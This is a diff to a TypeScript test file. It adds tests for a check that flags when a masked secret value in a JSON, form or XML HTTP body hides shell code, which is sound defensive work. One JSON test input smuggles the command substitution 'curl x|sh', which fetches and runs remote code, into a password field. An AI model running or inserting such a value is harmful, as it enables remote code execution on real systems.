@@ -3,7 +3,7 @@ import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { createDetectorSet } from '../../masking/index.js';
 import { DEFAULT_RESPONSE_FIELDS, fieldMatcher } from './field-names.js';
-import { httpBodyView, reviewedBody, SHOWN_BODY_CHARS } from './reviewed-body.js';
+import { httpBodyHidesCode, httpBodyView, reviewedBody, SHOWN_BODY_CHARS } from './reviewed-body.js';
 
 const masking = {
   detectors: createDetectorSet(),
@@ -90,5 +90,37 @@ describe('a coded body is shown as its upstream reads it (docs/security.md, clas
       max: 1024,
     });
     expect(big.shown).toMatch(/within 1024 bytes/);
+  });
+});
+
+describe('a reviewed body whose masked view would hide code (class 275)', () => {
+  const hides = (type: string, body: string, literal?: (path: string) => boolean) =>
+    httpBodyHidesCode(Buffer.from(body), type, masking, literal ? { literal: () => literal } : {});
+
+  it('names where a masked value holds code, in JSON, a form and XML', () => {
+    expect(hides('application/json', '{"c":["DB_PASSWORD=$(curl x|sh)"]}')).toContain(
+      'c[0], where the masked part holds "$"',
+    );
+    expect(hides('application/x-www-form-urlencoded', 'Action=X&Password=a%3Bb')).toContain(
+      'Password, where',
+    );
+    expect(hides('application/xml', '<a><password>x;y</password></a>')).toContain('a masked part holds ";"');
+  });
+
+  it('passes literals, the stored secrets named, and XML text it re-encodes', () => {
+    expect(hides('application/json', '{"password":"s3cr3t"}')).toBeUndefined();
+    expect(
+      hides('application/json', '{"SecretString":"a b;c"}', (p) => p === 'SecretString'),
+    ).toBeUndefined();
+    expect(
+      hides('application/x-www-form-urlencoded', 'Password=a%3Bb', (p) => p === 'Password'),
+    ).toBeUndefined();
+    expect(hides('application/xml', `<a><b>it's</b><password>s3cr3t</password></a>`)).toBeUndefined();
+    const reEncoded = `<a><b>it's eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXZhbHVlLTEyMzQ1Njc4OTA</b></a>`;
+    expect(show('application/xml', reEncoded).shown).toContain('it&apos;s [REDACTED');
+    expect(hides('application/xml', reEncoded)).toBeUndefined();
+    expect(() =>
+      hides('application/xml', '<a><b>x &#9999999; y</b><password>z</password></a>'),
+    ).not.toThrow();
   });
 });
